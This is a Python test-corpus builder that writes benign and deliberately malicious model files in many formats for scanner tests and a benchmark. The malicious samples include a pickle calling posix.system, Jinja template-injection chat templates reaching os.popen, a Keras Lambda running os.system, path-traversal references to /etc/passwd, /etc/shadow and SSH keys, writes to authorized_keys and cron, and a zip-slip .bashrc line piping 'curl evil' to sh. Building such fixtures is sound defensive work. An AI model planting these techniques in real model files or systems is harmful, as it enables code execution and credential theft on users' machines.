"""Malicious and benign model files of every format that is not a pickle, for the format
scanner tests and the scanning benchmark.

Benign files are written by the real libraries where they install here (safetensors,
numpy, onnx, gguf, h5py); the rest are byte-exact constructions from the published
formats, each builder saying how. Malicious files are built the same way, with the one
thing wrong that the scanners must find.

Each :class:`CorpusFile` carries the severity the worst finding must have (``expect``;
None for a benign file: nothing at high or above) and the format scanner that must claim
it. Builders return bytes, so callers write them wherever they like."""

from __future__ import annotations

import base64
import io
import json
import marshal
import struct
import tarfile
import tempfile
import zipfile
from dataclasses import dataclass
from pathlib import Path

from ocimodel.scanning.findings import Severity

__all__ = ["CorpusFile", "benign_files", "malicious_files", "pb", "safetensors_bytes"]


@dataclass(frozen=True)
class CorpusFile:
    name: str
    data: bytes
    format: str  # the scanner that must claim it
    expect: Severity | None  # the worst finding; None: benign, nothing at high or above
    why: str = ""


# -- protobuf encoding (wire format: tag = field << 3 | wire type; 0 varint, 2 length) --


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte, n = n & 0x7F, n >> 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def pb(*fields: tuple[int, int | str | bytes]) -> bytes:
    """A message from (field number, value): ints as varints, str/bytes length-delimited."""
    out = bytearray()
    for number, value in fields:
        if isinstance(value, int):
            out += _varint(number << 3) + _varint(value)
        else:
            raw = value.encode() if isinstance(value, str) else value
            out += _varint(number << 3 | 2) + _varint(len(raw)) + raw
    return bytes(out)


# -- safetensors: u64 LE header length, JSON header, data (the format's README) --------


def safetensors_bytes(header: dict | bytes, data: bytes, length: int | None = None) -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw) if length is None else length) + raw + data


def _safetensors_real() -> bytes:
    import numpy as np
    from safetensors.numpy import save

    return save({"weight": np.arange(12, dtype=np.float32).reshape(3, 4), "bias": np.zeros(4, np.float16)},
                metadata={"format": "np"})  # fmt: skip


def _safetensors_malicious() -> list[CorpusFile]:
    f32 = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    files = [
        ("header-past-end.safetensors", safetensors_bytes({"a": f32}, b"\0" * 8, length=1 << 40), "header length beyond the file"),
        ("offsets-out-of-bounds.safetensors", safetensors_bytes({"a": {**f32, "shape": [1 << 30], "data_offsets": [0, 4 << 30]}}, b"\0" * 8), "data far past the end"),
        ("overlap.safetensors", safetensors_bytes({"a": f32, "b": {**f32, "data_offsets": [4, 12]}}, b"\0" * 12), "two tensors share bytes"),
        ("size-mismatch.safetensors", safetensors_bytes({"a": {**f32, "shape": [1000]}}, b"\0" * 8), "shape says 4000 bytes, offsets 8"),
        ("duplicate-key.safetensors", safetensors_bytes(b'{"a":' + json.dumps(f32).encode() + b',"a":' + json.dumps({**f32, "data_offsets": [0, 4], "shape": [1]}).encode() + b"}", b"\0" * 8), "readers disagree on which entry counts"),
        ("not-utf8.safetensors", safetensors_bytes(b'{"\xff\xfe":' + json.dumps(f32).encode() + b"}", b"\0" * 8), "header bytes not UTF-8"),
        ("bad-dtype.safetensors", safetensors_bytes({"a": {**f32, "dtype": "OBJECT"}}, b"\0" * 8), "unknown dtype"),
        ("metadata-not-strings.safetensors", safetensors_bytes({"__metadata__": {"x": {"nested": 1}}, "a": f32}, b"\0" * 8), "__metadata__ values must be strings"),
        # A polyglot: a valid safetensors file with a pickle appended (what torch.load or a
        # pickle scanner reading from another offset would find).
        ("trailing-pickle.safetensors", safetensors_bytes({"a": f32}, b"\0" * 8) + b"\x80\x04cposix\nsystem\n(Vid\ntR.", "bytes after the last tensor"),
    ]
    return [CorpusFile(name, data, "safetensors", Severity.HIGH, why) for name, data, why in files]


# -- GGUF (the gguf package writes benign files; malicious ones by hand, same layout) ---

# A real-world-style Llama 3 template: namespace() and loops are ordinary Jinja.
_LLAMA_TEMPLATE = (
    "{% set ns = namespace(system='') %}{% for message in messages %}"
    "{% if message['role'] == 'system' %}{% set ns.system = message['content'] %}{% endif %}"
    "{{ '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n' + message['content'] | trim + '<|eot_id|>' }}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}"
)


def _gguf_real(template: str | None = _LLAMA_TEMPLATE) -> bytes:
    import gguf
    import numpy as np

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "m.gguf"
        writer = gguf.GGUFWriter(str(path), "llama")
        writer.add_block_count(1)
        writer.add_tokenizer_model("gpt2")
        writer.add_token_list(["a", "b", "<|eot_id|>"])
        if template is not None:
            writer.add_chat_template(template)
        writer.add_tensor("token_embd.weight", np.ones((4, 8), dtype=np.float32))
        writer.add_tensor("output.weight", np.ones((2, 8), dtype=np.float16))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        return path.read_bytes()


def _gguf_string(text: str | bytes) -> bytes:
    raw = text.encode() if isinstance(text, str) else text
    return struct.pack("<Q", len(raw)) + raw


def gguf_bytes(kvs: list[tuple[str, int, bytes]], tensors: list[tuple[str, list[int], int, int]],
               data: bytes = b"", n_tensors: int | None = None, n_kv: int | None = None) -> bytes:
    """GGUF v3 by hand: magic, version, counts, key/values (key, type, encoded value),
    tensor infos (name, dims, ggml type, offset), padding to 32, data."""
    out = bytearray(b"GGUF" + struct.pack("<IQQ", 3, len(tensors) if n_tensors is None else n_tensors,
                                          len(kvs) if n_kv is None else n_kv))  # fmt: skip
    for key, vtype, value in kvs:
        out += _gguf_string(key) + struct.pack("<I", vtype) + value
    for name, dims, ggml_type, offset in tensors:
        out += _gguf_string(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims)
        out += struct.pack("<IQ", ggml_type, offset)
    out += b"\0" * (-len(out) % 32)
    return bytes(out + data)


def _gguf_malicious() -> list[CorpusFile]:
    ssti = {
        "ssti-cycler.gguf": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "ssti-attr.gguf": "{% for m in messages %}{{ m.content }}{% endfor %}{{ ''|attr('__class__') }}",
        "ssti-concat.gguf": "{{ (lipsum|attr('_'*2 ~ 'globals' ~ '_'*2)).os.popen('id').read() }}",
        "ssti-namespace.gguf": "{% set ns = namespace() %}{{ ns.__init__.__globals__['__builtins__']['eval']('1') }}",
        "ssti-joiner.gguf": "{{ joiner.__init__.__globals__.os.system('touch /tmp/pwned') }}",
        "ssti-self.gguf": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}",
    }
    files = [CorpusFile(name, _gguf_real(t), "gguf", Severity.CRITICAL, "chat template reaches Python internals")
             for name, t in ssti.items()]  # fmt: skip
    f32 = 0
    files += [
        CorpusFile("tensor-out-of-bounds.gguf", gguf_bytes([], [("w", [1 << 30], f32, 0)], b"\0" * 32),
                   "gguf", Severity.HIGH, "tensor data past the end"),
        CorpusFile("tensor-overlap.gguf", gguf_bytes([], [("a", [8], f32, 0), ("b", [8], f32, 0)], b"\0" * 32),
                   "gguf", Severity.HIGH, "two tensors at one offset"),
        CorpusFile("huge-counts.gguf", gguf_bytes([], [], n_kv=1 << 60), "gguf", Severity.HIGH, "counts beyond the file"),
        CorpusFile("string-past-end.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 50) + b"k",
                   "gguf", Severity.HIGH, "a key length beyond the file"),
        CorpusFile("vocab-string-past-end.gguf",
                   gguf_bytes([("tokenizer.ggml.tokens", 9, struct.pack("<IQ", 8, 2) + _gguf_string("a") + struct.pack("<Q", 1 << 40))], []),
                   "gguf", Severity.HIGH, "a vocabulary string beyond the file"),
        CorpusFile("unaligned.gguf", gguf_bytes([], [("a", [8], f32, 4)], b"\0" * 64), "gguf", Severity.HIGH, "offset not aligned"),
    ]  # fmt: skip
    return files


# -- ONNX (onnx.helper writes benign files; escaping locations set on the TensorProto) --


def _onnx_model(location: str | None = None, domain: str = "", inline_function: bool = False) -> bytes:
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array(np.ones((2, 2), np.float32), "W")
    if location is not None:  # what onnx.external_data_helper writes, with our path
        weight.ClearField("raw_data")
        weight.data_location = TensorProto.EXTERNAL
        for key, value in (("location", location), ("offset", "0"), ("length", "16")):
            entry = weight.external_data.add()
            entry.key, entry.value = key, value
    op = "MatMul" if not domain else "Evil"
    node = helper.make_node(op, ["X", "W"], ["Y"], domain=domain)
    graph = helper.make_graph([node], "g", [helper.make_tensor_value_info("X", TensorProto.FLOAT, [2, 2])],
                              [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [2, 2])], [weight])  # fmt: skip
    opsets = [helper.make_opsetid("", 17)] + ([helper.make_opsetid(domain, 1)] if domain else [])
    functions = []
    if inline_function:
        inner = helper.make_node("MatMul", ["a", "b"], ["c"])
        functions = [helper.make_function(domain, "Evil", ["a", "b"], ["c"], [inner], [helper.make_opsetid("", 17)])]
    model = helper.make_model(graph, opset_imports=opsets, functions=functions, producer_name="ocimodel-tests")
    return model.SerializeToString()


def _onnx_external_real() -> tuple[bytes, bytes]:
    """A model whose weights onnx itself saved as external data beside it."""
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array(np.ones((64, 64), np.float32), "W")
    graph = helper.make_graph([helper.make_node("MatMul", ["X", "W"], ["Y"])], "g",
                              [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 64])],
                              [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 64])], [weight])  # fmt: skip
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "model.onnx"
        onnx.save_model(model, str(path), save_as_external_data=True, location="weights.bin", size_threshold=0)
        return path.read_bytes(), (Path(tmp) / "weights.bin").read_bytes()


def _onnx_subgraph_escape() -> bytes:
    """The escaping tensor hidden in a Constant inside an If's then-branch."""
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    value = numpy_helper.from_array(np.ones(2, np.float32), "v")
    value.ClearField("raw_data")
    value.data_location = TensorProto.EXTERNAL
    entry = value.external_data.add()
    entry.key, entry.value = "location", "../../../root/.ssh/id_rsa"
    then_graph = helper.make_graph([helper.make_node("Constant", [], ["t"], value=value)], "then", [],
                                   [helper.make_tensor_value_info("t", TensorProto.FLOAT, [2])])  # fmt: skip
    else_graph = helper.make_graph([helper.make_node("Constant", [], ["e"], value=numpy_helper.from_array(np.zeros(2, np.float32)))],
                                   "else", [], [helper.make_tensor_value_info("e", TensorProto.FLOAT, [2])])  # fmt: skip
    node = helper.make_node("If", ["c"], ["y"], then_branch=then_graph, else_branch=else_graph)
    graph = helper.make_graph([node], "g", [helper.make_tensor_value_info("c", TensorProto.BOOL, [])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])])  # fmt: skip
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]).SerializeToString()


def _onnx_malicious() -> list[CorpusFile]:
    return [
        CorpusFile("external-in-subgraph.onnx", _onnx_subgraph_escape(), "onnx", Severity.CRITICAL, "escaping tensor in an If branch"),
        CorpusFile("external-dotdot.onnx", _onnx_model("../../../../etc/passwd"), "onnx", Severity.CRITICAL, "external data climbs out"),
        CorpusFile("external-absolute.onnx", _onnx_model("/etc/shadow"), "onnx", Severity.CRITICAL, "external data at an absolute path"),
        CorpusFile("external-windows.onnx", _onnx_model("C:\\Windows\\win.ini"), "onnx", Severity.CRITICAL, "external data at a drive path"),
        CorpusFile("custom-domain.onnx", _onnx_model(domain="com.evil"), "onnx", Severity.MEDIUM, "needs a custom op library"),
    ]  # fmt: skip


# -- TensorFlow SavedModel, by hand from its .proto files (tensorflow/core/protobuf/
# saved_model.proto, meta_graph.proto; core/framework/graph.proto, node_def.proto,
# function.proto, attr_value.proto, tensor.proto): SavedModel{1 schema version,
# 2 meta_graphs}, MetaGraphDef{1 meta_info_def, 2 graph_def}, GraphDef{1 node,
# 2 library}, NodeDef{1 name, 2 op, 3 input, 5 attr map<string, AttrValue>},
# FunctionDefLibrary{1 function}, FunctionDef{1 signature OpDef{1 name}, 3 node_def},
# AttrValue{2 s, 8 tensor}, TensorProto{1 dtype, 8 string_val}. ---------------------


def _node(name: str, op: str, inputs: list[str] = (), attrs: dict[str, bytes] | None = None) -> bytes:
    parts = [(1, name), (2, op)] + [(3, i) for i in inputs]
    parts += [(5, pb((1, key), (2, value))) for key, value in (attrs or {}).items()]
    return pb(*parts)


def _string_const(name: str, value: str) -> bytes:
    return _node(name, "Const", attrs={"value": pb((8, pb((1, 7), (8, value)))), "dtype": pb((6, 7))})


def savedmodel_bytes(nodes: list[bytes], functions: dict[str, list[bytes]] | None = None) -> bytes:
    library = pb(*[(1, pb((1, pb((1, fname))), *[(3, n) for n in fnodes])) for fname, fnodes in (functions or {}).items()])
    graph = pb(*[(1, n) for n in nodes], *([(2, library)] if functions else []))
    meta = pb((1, pb((1, "serve"))), (2, graph))  # meta_info_def.meta_graph_version, graph_def
    return pb((1, 1), (2, meta))


def _savedmodel_benign() -> bytes:
    # What tf.saved_model.save writes in outline: a serving function, a saver fed by the
    # saver_filename placeholder, ordinary math.
    return savedmodel_bytes(
        [_node("x", "Placeholder"), _node("w", "VarHandleOp"), _node("y", "MatMul", ["x", "w"]),
         _node("saver_filename", "Placeholder"), _string_const("names", "w/.ATTRIBUTES/VARIABLE_VALUE"),
         _node("save", "SaveV2", ["saver_filename", "names", "names", "w"]),
         _node("restore", "RestoreV2", ["saver_filename", "names", "names"])],
        {"__inference_serve_12": [_node("Identity", "Identity", ["x"]), _node("mul", "Mul", ["x", "x"])]},
    )  # fmt: skip


def _savedmodel_malicious() -> list[CorpusFile]:
    return [
        CorpusFile("pyfunc.pb", savedmodel_bytes([_node("x", "Placeholder")], {"__inference_f": [_node("p", "PyFunc", ["x"])]}),
                   "tf-savedmodel", Severity.CRITICAL, "PyFunc in a function"),
        CorpusFile("eagerpyfunc.pb", savedmodel_bytes([_node("p", "EagerPyFunc")]), "tf-savedmodel", Severity.CRITICAL, "EagerPyFunc"),
        CorpusFile("writefile.pb", savedmodel_bytes([_string_const("c", "/root/.ssh/authorized_keys"), _node("x", "Placeholder"),
                                                     _node("w", "WriteFile", ["c", "x"])]), "tf-savedmodel", Severity.CRITICAL, "WriteFile"),
        CorpusFile("readfile-passwd.pb", savedmodel_bytes([_string_const("c", "/etc/passwd"), _node("r", "ReadFile", ["c"])]),
                   "tf-savedmodel", Severity.CRITICAL, "ReadFile of a fixed host file"),
        CorpusFile("print-to-file.pb", savedmodel_bytes([_node("p", "PrintV2", [], {"output_stream": pb((2, "file:///etc/cron.d/x"))})]),
                   "tf-savedmodel", Severity.CRITICAL, "PrintV2 into a file"),
        CorpusFile("save-absolute.pb", savedmodel_bytes([_string_const("prefix", "/tmp/../etc/evil"), _string_const("n", "w"),
                                                         _node("s", "SaveV2", ["prefix", "n", "n", "w"])]),
                   "tf-savedmodel", Severity.CRITICAL, "SaveV2 to a fixed absolute path"),
        CorpusFile("matchingfiles.pb", savedmodel_bytes([_node("x", "Placeholder"), _node("m", "MatchingFiles", ["x"])]),
                   "tf-savedmodel", Severity.HIGH, "lists host files"),
    ]  # fmt: skip


# -- Keras: .keras zips as Keras 3.15 writes them (metadata.json, config.json,
# model.weights.h5, in that order), and Keras 2 style .h5 files (root attributes
# keras_version, backend, model_config) written with h5py. ------------------------------


def _dense(name: str, units: int) -> dict:
    return {"module": "keras.layers", "class_name": "Dense", "registered_name": None, "name": name,
            "config": {"name": name, "trainable": True, "units": units, "activation": "linear", "use_bias": True,
                       "dtype": {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None},
                       "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform",
                                              "config": {"seed": None}, "registered_name": None}},
            "build_config": {"input_shape": [None, 3]}, "inbound_nodes": []}  # fmt: skip


def _lambda_code() -> str:
    # Keras 3 stores a Lambda's function as base64 of marshal.dumps(function.__code__).
    return base64.b64encode(marshal.dumps(compile("lambda t: __import__('os').system('id')", "<x>", "eval"))).decode()


def keras_config(extra_layers: list[dict] = ()) -> dict:
    inp = {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None, "name": "input_layer",
           "config": {"batch_shape": [None, 3], "dtype": "float32", "sparse": False, "name": "input_layer"}, "inbound_nodes": []}  # fmt: skip
    return {"module": "keras.src.models.functional", "class_name": "Functional", "registered_name": "Functional",
            "config": {"name": "functional", "trainable": True, "layers": [inp, _dense("dense", 2), *extra_layers],
                       "input_layers": [["input_layer", 0, 0]], "output_layers": [["dense", 0, 0]]},
            "compile_config": None}  # fmt: skip


def _h5_weights() -> bytes:
    import h5py
    import numpy as np

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as f:
        f.create_group("layers/dense/vars").create_dataset("0", data=np.ones((3, 2), np.float32))
    return buffer.getvalue()


def keras_zip(config: dict, first: str | None = None) -> bytes:
    """``first``: a member written before Keras's own (Keras finds config.json by name)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        if first is not None:
            z.writestr(first, b"")
        z.writestr("metadata.json", json.dumps({"keras_version": "3.15.1", "date_saved": "2026-12-06@14:15:33"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", _h5_weights())
    return buffer.getvalue()


def keras_h5(config: dict | None, dense: bool = False) -> bytes:
    """``dense``: HDF5 1.8+ layout with more than 8 root attributes, kept in a fractal heap."""
    import h5py
    import numpy as np

    buffer = io.BytesIO()
    with h5py.File(buffer, "w", libver="latest" if dense else "earliest") as f:
        for i in range(12 if dense else 0):
            f.attrs[f"note{i}"] = i
        if config is not None:
            f.attrs["backend"] = "tensorflow"
            f.attrs["keras_version"] = "2.15.0"
            f.attrs["model_config"] = json.dumps(config)
        f.create_group("model_weights/dense/dense").create_dataset("kernel:0", data=np.ones((3, 2), np.float32))
    return buffer.getvalue()


def keras_metadata(layers: list[dict]) -> bytes:
    """keras_metadata.pb as tf.keras writes it: SavedMetadata{1 nodes}, each SavedObject
    {3 node_path, 4 identifier, 5 metadata JSON, 6 version {1 producer, 2 min_consumer}}."""
    nodes = [pb((3, "root"), (4, "_tf_keras_network"), (5, json.dumps({"name": "model", "class_name": "Functional"})),
                (6, pb((1, 2), (2, 1))))]  # fmt: skip
    for i, layer in enumerate(layers):
        metadata = {"name": layer["config"]["name"], "trainable": True, "class_name": layer["class_name"], "config": layer["config"]}
        nodes.append(pb((3, f"root.layer-{i}"), (4, "_tf_keras_layer"), (5, json.dumps(metadata)), (6, pb((1, 2), (2, 1)))))
    return pb(*[(1, node) for node in nodes])


def _keras_malicious() -> list[CorpusFile]:
    lambda3 = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "name": "lambda",
               "config": {"name": "lambda", "function": {"class_name": "__lambda__", "config": {"code": _lambda_code(), "defaults": None, "closure": None}},
                          "arguments": {}}}  # fmt: skip
    lambda2 = {"class_name": "Lambda", "name": "lambda",
               "config": {"name": "lambda", "function": [_lambda_code(), None, None], "function_type": "lambda",
                          "module": "__main__", "output_shape": None}}  # fmt: skip
    builtin_exec = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "name": "lambda",
                    "config": {"name": "lambda", "function": {"module": "builtins", "class_name": "function", "config": "exec",
                                                              "registered_name": "function"}, "arguments": {}}}  # fmt: skip
    tf_write = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "name": "lambda",
                "config": {"name": "lambda", "function": {"module": "tensorflow.io", "class_name": "function", "config": "write_file",
                                                          "registered_name": "function"}, "arguments": {}}}  # fmt: skip
    custom = {"module": "my_company.layers", "class_name": "Attention", "registered_name": "MyCompany>Attention",
              "name": "attention", "config": {"name": "attention"}}  # fmt: skip
    return [
        CorpusFile("lambda.keras", keras_zip(keras_config([lambda3])), "keras", Severity.CRITICAL, "Lambda with bytecode"),
        CorpusFile("lambda-reordered.keras", keras_zip(keras_config([lambda3]), first="assets/readme.txt"), "archive", Severity.CRITICAL,
                   "Lambda in a .keras whose first member is not Keras's"),
        CorpusFile("builtins-exec.keras", keras_zip(keras_config([builtin_exec])), "keras", Severity.CRITICAL, "module builtins, function exec"),
        CorpusFile("lambda-keras2.h5", keras_h5(keras_config([lambda2])), "hdf5", Severity.CRITICAL, "Keras 2 Lambda in model_config"),
        CorpusFile("lambda-dense.h5", keras_h5(keras_config([lambda2]), dense=True), "hdf5", Severity.CRITICAL, "Lambda in dense attribute storage (read by h5py)"),
        CorpusFile("builtins-exec.h5", keras_h5(keras_config([builtin_exec])), "hdf5", Severity.CRITICAL, "module builtins in model_config"),
        CorpusFile("keras_metadata.pb", keras_metadata([_dense("dense", 2), lambda2]), "keras-metadata", Severity.CRITICAL,
                   "Keras 2 Lambda in a SavedModel's keras_metadata.pb"),
        CorpusFile("tf-write-file.keras", keras_zip(keras_config([tf_write])), "keras", Severity.CRITICAL, "Lambda calling tf.io.write_file"),
        CorpusFile("custom-object.keras", keras_zip(keras_config([custom])), "keras", Severity.MEDIUM, "a custom layer to review"),
    ]  # fmt: skip


# -- archives (zipfile and tarfile write them; the bad names set on the headers) -------


def _zip(entries: list[tuple[str | zipfile.ZipInfo, bytes]], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as z:
        for name, data in entries:
            z.writestr(name, data)
    return buffer.getvalue()


def _tar(entries: list[tarfile.TarInfo | tuple[str, bytes]], gz: bool = False) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz" if gz else "w", format=tarfile.GNU_FORMAT) as t:
        for entry in entries:
            if isinstance(entry, tarfile.TarInfo):
                t.addfile(entry)
            else:
                info = tarfile.TarInfo(entry[0])
                info.size = len(entry[1])
                t.addfile(info, io.BytesIO(entry[1]))
    return buffer.getvalue()


def _link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info


def _zip_symlink(name: str, target: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3  # unix: the mode in the high half of external_attr
    info.external_attr = (0o120777 << 16)
    return info


def _archives_malicious() -> list[CorpusFile]:
    ok = ("tokenizer.json", b'{"version": "1.0"}')
    return [
        CorpusFile("zip-slip.zip", _zip([ok, ("../../../../root/.bashrc", b"curl evil | sh\n")]), "archive", Severity.CRITICAL, "member climbs out"),
        CorpusFile("zip-absolute.zip", _zip([ok, ("/etc/cron.d/evil", b"* * * * * root id\n")]), "archive", Severity.CRITICAL, "absolute member"),
        CorpusFile("zip-symlink.zip", _zip([ok, (_zip_symlink("link", ""), b"/etc/passwd")]), "archive", Severity.CRITICAL, "symlink out"),
        CorpusFile("tar-traversal.tar", _tar([ok, ("../evil.sh", b"id\n")]), "archive", Severity.CRITICAL, "member climbs out"),
        CorpusFile("tar-symlink.tar.gz", _tar([ok, _link("cfg", "../../../../etc")], gz=True), "archive", Severity.CRITICAL, "symlink out"),
        CorpusFile("tar-hardlink.tar", _tar([ok, _link("h", "/etc/shadow", tarfile.LNKTYPE)]), "archive", Severity.CRITICAL, "hard link to a host file"),
        CorpusFile("nested-slip.tar.gz", _tar([ok, ("inner.zip", _zip([("../../evil", b"x")]))], gz=True), "archive", Severity.CRITICAL, "zip slip inside a tarball"),
        CorpusFile("zip-bomb.zip", _zip([("zeros.bin", b"\0" * (32 << 20))]), "archive", Severity.HIGH, "1000x expansion"),
    ]  # fmt: skip


# -- chat templates outside GGUF: tokenizer_config.json as transformers writes it (the
# keys below in its order) and a bare chat_template.jinja --------------------------------


def tokenizer_config(template: str | list | None) -> bytes:
    config = {"add_bos_token": True, "added_tokens_decoder": {"128000": {"content": "<|begin_of_text|>", "special": True}},
              "bos_token": "<|begin_of_text|>", "clean_up_tokenization_spaces": True, "eos_token": "<|eot_id|>",
              "model_max_length": 131072, "tokenizer_class": "PreTrainedTokenizerFast"}  # fmt: skip
    if template is not None:
        config["chat_template"] = template
    return json.dumps(config, indent=2, sort_keys=True).encode()


def _chat_template_malicious() -> list[CorpusFile]:
    ssti = "{% for message in messages %}{{ message.content }}{% endfor %}{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    return [
        CorpusFile("tokenizer_config.json", tokenizer_config(ssti), "chat-template", Severity.CRITICAL, "SSTI in chat_template"),
        CorpusFile("named-templates.json", tokenizer_config([{"name": "default", "template": _LLAMA_TEMPLATE},
                                                             {"name": "tool_use", "template": ssti}]),
                   "chat-template", Severity.CRITICAL, "SSTI in a named template"),
        CorpusFile("chat_template.jinja", ssti.encode(), "chat-template", Severity.CRITICAL, "SSTI in a bare template"),
    ]  # fmt: skip


def malicious_files() -> list[CorpusFile]:
    return (_safetensors_malicious() + _gguf_malicious() + _onnx_malicious() + _savedmodel_malicious()
            + _keras_malicious() + _archives_malicious() + _chat_template_malicious())  # fmt: skip


def benign_files() -> list[CorpusFile]:
    onnx_external, onnx_weights = _onnx_external_real()
    return [
        CorpusFile("model.safetensors", _safetensors_real(), "safetensors", None),
        CorpusFile("empty.safetensors", _safetensors_empty(), "safetensors", None),
        CorpusFile("llama.gguf", _gguf_real(), "gguf", None),
        CorpusFile("no-template.gguf", _gguf_real(None), "gguf", None),
        CorpusFile("tokenizer_config.json", tokenizer_config(_LLAMA_TEMPLATE), "chat-template", None),
        CorpusFile("chat_template.jinja", _LLAMA_TEMPLATE.encode(), "chat-template", None),
        CorpusFile("model.onnx", _onnx_model(), "onnx", None),
        CorpusFile("external.onnx", onnx_external, "onnx", None),
        CorpusFile("local-function.onnx", _onnx_model(domain="local.fn", inline_function=True), "onnx", None),
        CorpusFile("saved_model.pb", _savedmodel_benign(), "tf-savedmodel", None),
        CorpusFile("model.keras", keras_zip(keras_config()), "keras", None),
        CorpusFile("model.h5", keras_h5(keras_config()), "hdf5", None),
        CorpusFile("weights.h5", keras_h5(None), "hdf5", None),
        CorpusFile("keras_metadata.pb", keras_metadata([_dense("dense", 2), _dense("out", 1)]), "keras-metadata", None),
        CorpusFile("dense.h5", keras_h5(keras_config(), dense=True), "hdf5", None),
        CorpusFile("tokenizer.tar.gz", _tar([("tok/tokenizer.json", b"{}"), ("tok/vocab.txt", b"a\nb\n"), _link("tok/latest", "vocab.txt")], gz=True), "archive", None),
        CorpusFile("assets.zip", _zip([("assets/", b""), ("assets/labels.txt", b"cat\ndog\n"), ("assets/weights.bin", onnx_weights)]), "archive", None),
    ]  # fmt: skip


def _safetensors_empty() -> bytes:
    from safetensors.numpy import save

    return save({})
